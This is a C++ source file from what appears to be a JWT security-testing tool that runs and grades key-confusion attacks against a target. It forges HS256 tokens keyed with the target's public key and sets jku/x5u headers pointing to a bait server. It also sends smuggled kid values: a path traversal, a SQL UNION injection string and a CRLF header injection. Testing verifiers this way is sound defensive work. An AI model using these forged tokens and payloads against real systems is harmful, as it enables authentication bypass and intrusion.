#include "core/lab/KeyConfusionAttacks.h"

#include "core/lab/AttackJudge.h"
#include "core/lab/AttackSession.h"

namespace authscope::lab {

namespace {

using Outcome = AttackResult::Outcome;

// The first RSA or EC key the target publishes, or null.
const jose::Jwk* publishedPublicKey(const jose::JwkSet& jwks)
{
    for (const jose::Jwk& k : jwks.keys()) {
        if (k.type() == jose::KeyType::Rsa || k.type() == jose::KeyType::Ec) {
            return &k;
        }
    }
    return nullptr;
}

// HS256 keyed with the target's published RSA/EC public key: its SPKI PEM (`pem`) or its JWK text.
AttackResult publicKeyAsSecret(AttackSession& session, const AttackSpec& attack, bool pem)
{
    if (!session.jwks()) {
        return AttackJudge::skipped(attack, QStringLiteral("Needs the target's JWKS: %1").arg(session.jwksProblem()));
    }
    const jose::Jwk* publicKey = publishedPublicKey(*session.jwks());
    if (publicKey == nullptr) {
        return AttackJudge::skipped(attack, QStringLiteral("The target publishes no RSA or EC key to confuse."));
    }
    QByteArray secret;
    if (pem) {
        auto text = publicKey->toPem(crypto::PemFormat::PublicSpki);
        if (!text) {
            return AttackJudge::error(attack, text.error().message);
        }
        secret = *text;
    } else {
        secret = AttackSession::compactJson(publicKey->toJson(false));
    }
    const QJsonObject header = session.withTyp(
        QJsonObject{{QStringLiteral("alg"), QStringLiteral("HS256")}, {QStringLiteral("kid"), publicKey->kid()}});
    auto token = session.hmacToken(header, secret);
    if (!token) {
        return AttackJudge::error(attack, token.error().message);
    }
    AttackResult r = AttackJudge::judge(attack, session.bearer(*token));
    AttackJudge::addNote(r.detail, QStringLiteral("HS256 keyed with the %1 of %2 key '%3'.")
                                       .arg(pem ? QStringLiteral("SPKI PEM") : QStringLiteral("public JWK text"),
                                            publicKey->typeName(), publicKey->kid().left(40)));
    return r;
}

// ES256 by the attacker, with jku (or `x5u`) pointing to the bait server.
AttackResult remoteKeyUrl(AttackSession& session, const AttackSpec& attack, bool x5u)
{
    const jose::Jwk& key = x5u ? session.certificateKey() : session.attackerKey();
    const QString url = session.bait().url(x5u ? QStringLiteral("/cert.pem") : QStringLiteral("/jwks.json"));
    const QJsonObject header = session.withTyp(QJsonObject{{QStringLiteral("alg"), QStringLiteral("ES256")},
                                                           {QStringLiteral("kid"), key.kid()},
                                                           {x5u ? QStringLiteral("x5u") : QStringLiteral("jku"), url}});
    auto token = session.signRaw(AttackSession::compactJson(header), AttackSession::compactJson(session.freshClaims()),
                                 key, jose::JwsAlgorithm::ES256);
    if (!token) {
        return AttackJudge::error(attack, token.error().message);
    }
    const int before = session.bait().requestCount();
    AttackResult r = AttackJudge::judge(attack, session.bearer(*token));
    const int fetched = session.bait().requestCount() - before;
    if (fetched > 0) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("The target fetched the %1 URL from the token header (%2 request(s) to the bait "
                                  "server): a header chose where keys come from. %3")
                       .arg(x5u ? QStringLiteral("x5u") : QStringLiteral("jku"))
                       .arg(fetched)
                       .arg(r.detail);
        return r;
    }
    QString note = QStringLiteral("Bait server fetched: no.");
    if (!session.probe().isLoopback()) {
        note += QStringLiteral(" (The target is not on this machine, so a fetch of %1 would reach its own loopback "
                               "and could not be seen here.)")
                    .arg(url);
    }
    AttackJudge::addNote(r.detail, note);
    return r;
}

// HS256 under `kid`, keyed with what a kid lookup through a file or SQL would find (`secret`).
AttackResult kidInjection(AttackSession& session, const AttackSpec& attack, const QString& kid,
                          const QByteArray& secret)
{
    const QJsonObject header =
        session.withTyp(QJsonObject{{QStringLiteral("alg"), QStringLiteral("HS256")}, {QStringLiteral("kid"), kid}});
    auto token = session.hmacToken(header, secret);
    if (!token) {
        return AttackJudge::error(attack, token.error().message);
    }
    return AttackJudge::judge(attack, session.bearer(*token));
}

} // namespace

AttackResult KeyConfusionAttacks::publicPemAsSecret(AttackSession& session, const AttackSpec& attack)
{
    return publicKeyAsSecret(session, attack, true);
}

AttackResult KeyConfusionAttacks::publicJwkAsSecret(AttackSession& session, const AttackSpec& attack)
{
    return publicKeyAsSecret(session, attack, false);
}

AttackResult KeyConfusionAttacks::jkuBait(AttackSession& session, const AttackSpec& attack)
{
    return remoteKeyUrl(session, attack, false);
}

AttackResult KeyConfusionAttacks::x5uBait(AttackSession& session, const AttackSpec& attack)
{
    return remoteKeyUrl(session, attack, true);
}

AttackResult KeyConfusionAttacks::kidPathTraversal(AttackSession& session, const AttackSpec& attack)
{
    return kidInjection(session, attack, QStringLiteral("../../../../../../../../dev/null"), QByteArray());
}

AttackResult KeyConfusionAttacks::kidSqlInjection(AttackSession& session, const AttackSpec& attack)
{
    return kidInjection(session, attack, QStringLiteral("x' UNION SELECT 'authscope-attack-secret-0123456789' --"),
                        QByteArrayLiteral("authscope-attack-secret-0123456789"));
}

AttackResult KeyConfusionAttacks::embeddedJwk(AttackSession& session, const AttackSpec& attack)
{
    auto attackerPublic = session.attackerKey().publicKey();
    if (!attackerPublic) {
        return AttackJudge::error(attack, attackerPublic.error().message);
    }
    const QJsonObject header = session.withTyp(QJsonObject{{QStringLiteral("alg"), QStringLiteral("ES256")},
                                                           {QStringLiteral("jwk"), attackerPublic->toJson(false)}});
    auto token = session.signRaw(AttackSession::compactJson(header), AttackSession::compactJson(session.freshClaims()),
                                 session.attackerKey(), jose::JwsAlgorithm::ES256);
    if (!token) {
        return AttackJudge::error(attack, token.error().message);
    }
    return AttackJudge::judge(attack, session.bearer(*token));
}

AttackResult KeyConfusionAttacks::kidHeaderInjection(AttackSession& session, const AttackSpec& attack)
{
    // Servers like to say which kid they did not find; a CR LF in it must never become a response header.
    const QJsonObject header =
        session.withTyp(QJsonObject{{QStringLiteral("alg"), QStringLiteral("HS256")},
                                    {QStringLiteral("kid"), QStringLiteral("attack\r\nX-AuthScope-Injected: 1\r\n")}});
    auto token = session.hmacToken(header, AttackSession::randomId(32));
    if (!token) {
        return AttackJudge::error(attack, token.error().message);
    }
    const auto response = session.bearer(*token);
    AttackResult r = AttackJudge::judge(attack, response);
    if (response && !response->header("x-authscope-injected").isEmpty()) {
        r.outcome = Outcome::Accepted;
        r.detail = QStringLiteral("The kid was written into the response headers: a header (or a whole response) can "
                                  "be injected. ") +
                   r.detail;
    }
    return r;
}

AttackResult KeyConfusionAttacks::revokedKey(AttackSession& session, const AttackSpec& attack)
{
    auto token = session.signReal(session.freshClaims());
    if (!token) {
        return AttackJudge::error(attack, token.error().message);
    }
    auto before = session.bearer(*token);
    if (auto refused = AttackJudge::controlRefused(
            attack, before, QStringLiteral("Control failed: the token was refused before its key was revoked."))) {
        return *refused;
    }
    auto next = session.target().rotateAndRevoke();
    if (!next) {
        return AttackJudge::error(attack,
                                  QStringLiteral("Could not revoke the signing key: %1").arg(next.error().message));
    }
    const QString revokedKid = session.signingKey()->kid();
    AttackResult r = AttackJudge::judge(attack, session.bearer(*token));
    AttackJudge::addNote(
        r.detail,
        QStringLiteral("Accepted (200) before key '%1' was revoked; sent again after.").arg(revokedKid.left(40)));
    // Later rows sign with the key that is active now.
    session.useSigningKey(*next);
    return r;
}

} // namespace authscope::lab
